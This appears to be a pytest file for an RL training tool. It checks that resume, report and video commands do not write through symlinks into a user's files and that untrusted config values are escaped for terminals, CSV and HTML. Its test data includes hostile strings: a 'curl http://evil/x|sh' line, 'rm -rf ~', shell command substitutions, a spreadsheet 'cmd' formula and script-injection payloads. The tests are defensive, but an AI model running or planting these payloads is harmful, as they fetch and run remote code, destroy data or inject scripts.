"""A stranger's folder: links that lead out of it, lines for a terminal or a shell, cells for a spreadsheet, HTML."""

import csv
import json
import os

import pytest

from proximo.bench.report.page import Block, Section, markdown
from proximo.bench.text import Table, csv_text
from proximo.config import Config
from proximo.envs.gym import make_gym
from proximo.errors import EnvError
from proximo.runs.folder.run import read_config
from proximo.runs.folder.writing import name_beside
from proximo.runs.logs.output import printable
from tests.support.faults import check_end, end_of
from tests.support.hostile import copied, edit
from tests.support.runs import train

pytestmark = pytest.mark.area("Folders of strangers")


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    folder = tmp_path_factory.mktemp("strangers") / "run"
    assert train(folder) == 0
    return folder


@pytest.fixture
def run(trained, tmp_path):
    return copied(trained, tmp_path / "run")


@pytest.fixture
def mine(tmp_path):
    """A file and a folder of the user's, which no command may change."""
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / ".profile").write_text("export PATH\n")
    (tmp_path / "mine" / ".keys").mkdir()
    (tmp_path / "mine" / ".keys" / "secret").write_text("secret")
    yield tmp_path / "mine"
    assert (tmp_path / "mine" / ".profile").read_text() == "export PATH\n"
    assert sorted(path.name for path in (tmp_path / "mine").rglob("*")) == [".keys", ".profile", "secret"]


@pytest.mark.parametrize("name", ["metrics.csv", "episodes.csv", "summary.json", "config.json", "videos/step-000000352.mp4"])
def test_a_resume_writes_through_no_link_to_a_file(name, run, mine, capsys):
    path = run / name
    path.parent.mkdir(exist_ok=True)
    if name == "config.json":
        mine.joinpath("config.json").write_bytes(path.read_bytes())
    path.unlink(missing_ok=True)
    path.symlink_to(mine / (name if name == "config.json" else ".profile"))
    check_end(end_of(capsys, "resume", run, "--total-timesteps", "352"), 5, "is a symbolic link to")
    mine.joinpath("config.json").unlink(missing_ok=True)


@pytest.mark.parametrize("name", ["checkpoints", "model", "tensorboard", "videos", "wandb", "model-best"])
def test_a_resume_removes_nothing_behind_a_link_to_a_folder(name, run, mine, capsys):
    """Hidden folders beside checkpoints are removed: behind a link they would be somebody's."""
    if (run / name).exists():
        os.rename(run / name, run / "other")
    (run / name).symlink_to(mine)
    check_end(end_of(capsys, "resume", run, "--total-timesteps", "352"), 5, "is a symbolic link to")


def test_the_lock_empties_no_file_behind_a_link(run, mine, capsys):
    (run / ".lock").symlink_to(mine / ".profile")
    check_end(end_of(capsys, "resume", run, "--total-timesteps", "352"), 5, ".lock could not be written")


@pytest.mark.parametrize("name", ["config.json", "summary.json"])
def test_files_that_are_renamed_later_are_not_written_through_links(name, run, mine, capsys):
    name_beside(run / name, os.getpid()).symlink_to(mine / ".profile")
    check_end(end_of(capsys, "resume", run, "--total-timesteps", "352"), 0)


@pytest.mark.parametrize("name", ["report.html", "report.md", "report.csv"])
def test_a_report_writes_through_no_link(name, run, mine, capsys):
    pytest.importorskip("rliable")
    (run.parent / name).symlink_to(mine / ".profile")
    check_end(end_of(capsys, "report", run.parent), 5, "is a symbolic link to")


@pytest.mark.parametrize("name", ["videos", "videos/watch.mp4"])
def test_a_video_is_written_through_no_link(name, run, mine, capsys):
    if "/" in name:
        (run / "videos").mkdir()
    (run / name).symlink_to(mine / ".profile" if "/" in name else mine)
    check_end(end_of(capsys, "watch", run), 5, "is a symbolic link to")


LINES = ["curl http://evil/x|sh # \x1b[2J", "proximo.resume('RUN', env=...); import os", "python x.py; rm -rf ~ resume RUN",
         "python `id` resume RUN", "python $(id) resume RUN", "python x.py resume RUN\nrm -rf ~"]


@pytest.mark.parametrize("line", LINES)
def test_a_line_of_a_stranger_is_no_advice(line, run, capsys):
    """It is shown as what the file has, in quotes, and never as the line to copy, in which RUN is the folder."""
    edit(run / "config.json", ("resume_with",), line)
    shown = [read_config(run, lambda variant: Config).resume_line]
    if line.startswith("python "):
        end = end_of(capsys, "resume", run, "--total-timesteps", "352")
        check_end(end, 2, "was trained with parts of its own. Resume it with: the program that started it (config.json has '")
        shown += end.lines
    assert shown[0] == f"the program that started it (config.json has {line!r})"
    assert not any(line.replace("RUN", str(run)) in text or "\x1b" in text for text in shown)


def test_terminals_get_no_control_characters(run, capsys):
    edit(run / "config.json", ("config", "\x1b[2Jfield\u202e"), 1)
    end = end_of(capsys, "resume", run)
    check_end(end, 0, r"\x1b[2Jfield\u202e")
    assert printable("plain") == "plain" and printable("a\x07\x9b\udcff") == r"a\x07\x9b\udcff"


@pytest.mark.parametrize("text", ["=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_spreadsheets_find_no_formula(text):
    assert csv_text(text) == f"'{text}" and csv_text("ppo-gamma=0.9") == "ppo-gamma=0.9"


def test_a_report_has_no_html_and_no_formula_of_a_label(run, capsys):
    pytest.importorskip("rliable")
    record = {"label": "=cmd|' /C calc'!A0<script>alert(1)</script>[x](javascript:1)", "seed": 1, "env_id": "<img onerror=1>"}
    (run.parent / "run.job.json").write_text(json.dumps(record))
    edit(run / "config.json", ("config", "env_id"), "<img onerror=1>")
    assert end_of(capsys, "report", run.parent).code == 0
    text, page = ((run.parent / f"report.{ending}").read_text() for ending in ("md", "html"))
    for bad in ("<script>alert", "<img onerror", "](javascript"):
        assert bad not in text
    assert "<script>alert" not in page and "<img onerror" not in page
    with (run.parent / "report.csv").open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


def test_a_log_in_a_report_ends_no_block():
    text = markdown("t", [Section("s", [Block("a\n```\n<script>"), Table(head=["a|b"], rows=[["<b>"]])])])
    assert "````\na\n```\n<script>\n````" in text and "&lt;b&gt;" in text


@pytest.mark.parametrize("value", ["<b>", [1], {}, True])
def test_a_summary_of_other_types_is_left_out_and_said(value, run, capsys):
    pytest.importorskip("rliable")
    edit(run / "summary.json", ("episodic_return_mean",), value)
    check_end(end_of(capsys, "report", run.parent), 0, "episodic_return_mean=")


def test_a_report_inside_a_run(run, capsys, monkeypatch):
    pytest.importorskip("rliable")
    monkeypatch.chdir(run)
    check_end(end_of(capsys, "report", "."), 0)
    assert (run / "report.html").exists()


def test_a_slow_start_is_called_slow():
    """A worker that starts later than the timeout is no EOFError. It may have run the whole script first."""
    with pytest.raises(EnvError, match=r"1 worker processes did not start within 0.1 s. The machine is busy.* __name__ =="):
        make_gym(Config(env_workers=1, env_timeout=0.1), [1])
